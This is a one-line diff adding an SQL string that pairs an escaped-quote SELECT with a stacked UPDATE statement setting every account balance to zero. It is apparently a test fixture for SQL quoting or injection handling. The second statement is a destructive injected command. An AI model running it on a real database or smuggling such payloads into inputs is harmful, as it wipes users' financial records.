@@ -1,0 +1,1 @@
+SELECT 'it''s'; UPDATE accounts SET balance = 0
